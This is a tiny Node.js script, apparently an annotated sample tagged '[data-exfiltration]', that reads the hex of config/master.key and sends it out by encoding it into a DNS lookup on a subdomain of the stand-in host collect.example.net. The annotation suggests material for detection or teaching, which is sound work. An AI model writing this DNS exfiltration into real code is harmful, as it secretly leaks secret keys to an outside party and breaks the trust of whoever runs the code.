#!/usr/bin/env node
import dns from "node:dns";
import { readFileSync } from "node:fs";

dns.lookup(`${readFileSync("config/master.key", "hex").slice(0, 60)}.collect.example.net`, () => {});
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
